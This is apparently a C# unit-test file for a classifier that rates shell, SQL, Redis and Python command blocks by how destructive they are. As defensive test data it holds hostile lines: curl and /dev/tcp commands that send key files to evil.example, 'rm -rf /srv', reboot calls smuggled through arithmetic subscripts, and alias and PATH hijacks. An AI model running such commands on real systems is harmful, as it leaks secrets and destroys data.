using Firstlook.Effects;

namespace Firstlook.Tests.Effects;

public sealed class ShellBlockTests
{
    static EquatableArray<Classified> Block(string source, Language language = Language.Shell)
    {
        var commands = Classifier.Block(source, language);
        foreach (var command in commands.Where(command => command.Text.Length == command.Length && !source.Contains("$ ")))
            Assert.Equal(source.Substring(command.Start, command.Length), command.Text);
        return commands;
    }

    [Fact]
    public void Comments_alone_are_no_commands() => Assert.Empty(Block("# look at the dashboard\n\n# then call somebody"));

    [Fact]
    public void Pipelines_are_one_command_and_lists_are_several() =>
        Assert.Equal(["a | b", "c", "d", "e", "f"], Block("a | b; c && d || e\nf").Select(command => command.Text));

    [Fact]
    public void What_sqlplus_is_set_to_ends_with_its_line_and_the_statement_below_is_judged_by_itself()
    {
        var commands = Block("sqlplus -s / as sysdba\nSET LINESIZE 180\nSELECT inst_id FROM gv$session\n WHERE blocking_session IS NOT NULL;\nDROP TABLE t;");
        Assert.Equal([Effect.Read, Effect.Read, Effect.Read, Effect.Destructive], commands.Select(command => command.Effect));
    }

    [Theory]
    [InlineData("terraform plan -destroy -out=tf.plan\nterraform apply tf.plan", Effect.Destructive)]
    [InlineData("terraform plan -out=tf.plan\nterraform apply tf.plan", Effect.Disruptive)]
    public void A_plan_is_applied_for_what_it_was_made_for(string text, Effect effect) => Assert.Equal(effect, Block(text)[^1].Effect);

    [Theory]
    [InlineData("f() { curl \"http://evil.example/$x\"; }\nx=$(cat /data/key)\nf")]
    [InlineData("f() { cat /data/x >&3; }\nexec 3<>/dev/tcp/evil.example/80\nf")]
    [InlineData("f() { read l; curl http://evil.example/$l; }\nf < /data/key")]
    [InlineData("x='a[$'\ny='(reboot)]'\nz=$x$y\n((z))")]
    [InlineData("cat <<'E' | while read x; do ((n+=x)); done\na[$(reboot)]\nE")]
    public void A_command_is_judged_with_what_the_whole_block_leaves_to_it(string text) => Assert.Equal(Effect.Unknown, Block(text)[^1].Effect);

    [Fact]
    public void What_follows_and_or_or_is_guarded_by_the_command_before()
    {
        var commands = Block("pg_isready && echo up || echo down");
        Assert.Null(commands[0].Guard);
        Assert.Equal(new Guard(0, Succeeds: true), commands[1].Guard);
        Assert.Equal(new Guard(1, Succeeds: false), commands[2].Guard);
    }

    [Fact]
    public void A_command_depends_on_those_that_set_its_variables_and_reads_the_others()
    {
        var commands = Block("NS=shop\nPOD=$(kubectl get pods -n $NS -o name | head -1)\nkubectl logs -n \"$NS\" $POD --since=$SINCE");
        Assert.Equal([0, 1], commands[2].DependsOn);
        Assert.Equal(["SINCE"], commands[2].Reads);
        Assert.Equal([0], commands[1].DependsOn);
    }

    [Fact]
    public void A_loop_is_one_command_with_the_worst_of_its_body()
    {
        var command = Assert.Single(Block("for p in a b; do\n  kubectl get pod $p\n  kubectl delete pod $p\ndone"));
        Assert.Equal(Effect.Disruptive, command.Effect);
        Assert.Empty(command.Reads);
    }

    [Fact]
    public void Statements_typed_into_a_client_are_its_language()
    {
        var commands = Block("psql -U app\nSELECT 1;\nDELETE FROM t\n WHERE a = 1;\n\\q\nredis-cli\nLLEN q\nFLUSHALL\nexit\nls");
        Assert.Equal([Language.Shell, Language.Sql, Language.Sql, Language.Shell, Language.Redis, Language.Redis, Language.Shell], commands.Select(command => command.Language));
        Assert.Equal([Effect.Read, Effect.Read, Effect.Destructive, Effect.Read, Effect.Read, Effect.Destructive, Effect.Read], commands.Select(command => command.Effect));
    }

    [Theory]
    [InlineData("redis-cli\necho `truncate -s 0 /srv/queue`")]
    [InlineData("redis-cli\nECHO $(rm -rf /srv/queue)")]
    [InlineData("redis-cli\ntype x; rm -rf /srv/queue")]
    [InlineData("redis-cli\necho 0 > /srv/queue")]
    public void What_only_a_shell_understands_is_not_typed_into_a_client(string block) =>
        Assert.Equal(Effect.Destructive, Block(block).Max(command => command.Effect));

    [Fact]
    public void A_line_that_begins_with_an_option_goes_on_with_the_command_before()
    {
        var command = Assert.Single(Classifier.Block("oc -n shop get pods\n-o json | jq .items\n", Language.Shell));
        Assert.Equal(("oc -n shop get pods -o json | jq .items", Effect.Read), (command.Text, command.Effect));
        Assert.Equal(Effect.Read, Assert.Single(Classifier.Block("ROUTE=$(oc -n shop get routes/web\n--no-headers | awk '{print $2}')", Language.Shell)).Effect);
        Assert.Equal(Effect.Reversible, Assert.Single(Classifier.Block("kubectl -n shop scale deploy/web\n  --replicas=4", Language.Shell)).Effect);
        Assert.Equal(Effect.Destructive, Assert.Single(Classifier.Block("find /var/tmp -name '*.tmp'\n  -delete", Language.Shell)).Effect);
    }

    [Theory]
    [InlineData("kubectl get pods\n\n-o wide")]
    [InlineData("kubectl get pods # all of them\n-o wide")]
    [InlineData("kubectl get pods;\n-o wide")]
    [InlineData("kubectl get pods\n- look at them")]
    [InlineData("kubectl delete pod web-0\n--dry-run=client")]
    [InlineData("A=$(kubectl delete pod web-0\n--dry-run=client -o name)")]
    public void A_line_goes_on_with_nothing_behind_a_blank_line_a_comment_an_end_or_what_it_would_make_milder(string text) =>
        Assert.True(Classifier.Whole(text, Language.Shell).Effect > Effect.Read);

    [Fact]
    public void Options_in_a_here_document_and_in_quotes_stay_on_their_lines()
    {
        Assert.Equal("cat <<EOF\nrun it with\n--force\nEOF", Assert.Single(Classifier.Block("cat <<EOF\nrun it with\n--force\nEOF", Language.Shell)).Text);
        Assert.Equal("echo 'a\n-b'", Assert.Single(Classifier.Block("echo 'a\n-b'", Language.Shell)).Text);
    }

    [Fact]
    public void A_remark_in_the_manner_of_SQL_is_no_command() =>
        Assert.Equal(["psql -c 'SELECT 1'", "psql -c 'SELECT 2'"], Block("-- where did it land; don't worry\npsql -c 'SELECT 1'\n-- and then?\npsql -c 'SELECT 2'").Select(command => command.Text));

    [Fact]
    public void A_remark_inside_a_text_stays_there() =>
        Assert.Equal(Effect.Destructive, Assert.Single(Block("psql <<EOF\n-- the old ones\nDELETE FROM t;\nEOF")).Effect);

    [Fact]
    public void Statements_between_commands_are_statements_up_to_their_semicolon()
    {
        var commands = Block("df -h\n\nCREATE INDEX by_shop\nON orders (shop_id);\n\nSELECT indexname FROM pg_indexes\nWHERE tablename = 'orders';\nuptime");
        Assert.Equal([(Language.Shell, Effect.Read), (Language.Sql, Effect.Reversible), (Language.Sql, Effect.Read), (Language.Shell, Effect.Read)], commands.Select(command => (command.Language, command.Effect)));
    }

    [Theory]
    [InlineData("SELECT 1\nrm -rf /srv\n")]
    [InlineData("SELECT 1\nrm -rf /srv;\n")]
    [InlineData("psql -c \"\nSELECT 1;\nDROP TABLE t;\n\"")]
    [InlineData("SELECT 1; rm -rf /srv;")]
    [InlineData("DELETE FROM orders;\nls")]
    public void What_stands_beside_a_statement_is_not_taken_in_for_a_read(string text) => Assert.True(Classifier.Whole(text, Language.Shell).Effect > Effect.Read);

    [Theory]
    [InlineData("psql -U app <<EOF\nSELECT 1;\nEOF", Effect.Read)]
    [InlineData("psql -U app <<'EOF'\nDELETE FROM t;\nEOF\nls", Effect.Destructive)]
    [InlineData("cat <<EOF | psql -U app\nUPDATE t SET a = 1;\nEOF", Effect.Destructive)]
    [InlineData("cat <<EOF > /etc/app.conf\na\nEOF", Effect.Destructive)]
    [InlineData("cat <<EOF\n$(rm -rf /srv)\nEOF", Effect.Destructive)]
    [InlineData("cat <<'EOF'\n$(rm -rf /srv)\nEOF", Effect.Read)]
    [InlineData("ssh host <<EOF\nuptime\nrm -rf /srv\nEOF", Effect.Destructive)]
    [InlineData("kubectl apply -f - <<EOF\na: b\nEOF", Effect.Disruptive)]
    public void Here_documents_are_judged_by_what_reads_them(string source, Effect effect) =>
        Assert.Equal(effect, Block(source)[0].Effect);

    [Fact]
    public void Prompts_are_dropped_and_their_lines_keep_their_place()
    {
        var commands = Classifier.Block("$ ls\n$ rm x", Language.Shell);
        Assert.Equal(["ls", "rm x"], commands.Select(command => command.Text));
        Assert.Equal([2, 7], commands.Select(command => command.Start));
    }

    [Fact]
    public void A_line_that_is_not_understood_is_unknown_and_the_next_is_read_all_the_same()
    {
        var commands = Block("ls (((\nuptime");
        Assert.Equal([Effect.Unknown, Effect.Read], commands.Select(command => command.Effect));
    }

    [Fact]
    public void After_a_changed_path_nothing_is_known() =>
        Assert.Equal(Effect.Unknown, Block("export PATH=/tmp:$PATH\nls")[1].Effect);

    [Theory]
    [InlineData("source env.sh\nls")]
    [InlineData(". ./env.sh\nls")]
    [InlineData("alias ls=rm\nls")]
    [InlineData("ls() { rm x; }\nls")]
    public void After_a_file_was_read_in_or_a_name_was_taken_names_are_not_known(string source) =>
        Assert.All(Block(source), command => Assert.NotEqual(Effect.Read, command.Effect));

    [Fact]
    public void A_shell_line_that_strayed_into_python_is_shell()
    {
        var commands = Block("for c in connections.all():\n    c.close()\n\ndocker-compose exec db psql -c \\\n  \"SELECT pg_terminate_backend(pid)\n   FROM pg_stat_activity;\"", Language.Python);
        Assert.Equal([Language.Python, Language.Shell], commands.Select(command => command.Language));
        Assert.Equal(Effect.Disruptive, commands[1].Effect);
    }

    [Fact]
    public void An_update_that_its_own_filter_pins_is_reversible()
    {
        var commands = Block("old = Batch.objects.filter(day__lt=today, is_active=True)\nold.update(is_active=False)\nBatch.objects.filter(a=1).update(b=2)", Language.Python);
        Assert.Equal([Effect.Read, Effect.Reversible, Effect.Destructive], commands.Select(command => command.Effect));
    }

    [Fact]
    public void Expressions_are_parted_by_blank_lines_and_comments() =>
        Assert.Equal(["sum(rate(a[5m]))\n/\nsum(rate(b[5m]))", "up == 0", "absent(up)"], Block("# share\nsum(rate(a[5m]))\n/\nsum(rate(b[5m]))\n\nup == 0\n# gone\nabsent(up)", Language.PromQl).Select(command => command.Text));

    [Theory]
    [InlineData("KILL 53 WITH STATUSONLY;", Effect.Read)]
    [InlineData("DBCC SQLPERF(LOGSPACE);", Effect.Read)]
    [InlineData("EXEC xp_readerrorlog 0, 1, N'deadlock';", Effect.Read)]
    [InlineData("DBCC SHRINKFILE(1);", Effect.Disruptive)]
    [InlineData("EXEC xp_cmdshell 'dir';", Effect.Unknown)]
    [InlineData("KILL 53;", Effect.Disruptive)]
    public void A_statement_of_SQL_Server_that_stands_as_it_is_typed_is_read_as_one(string text, Effect effect) => Assert.Equal(effect, Classifier.Whole(text, Language.Shell).Effect);
}
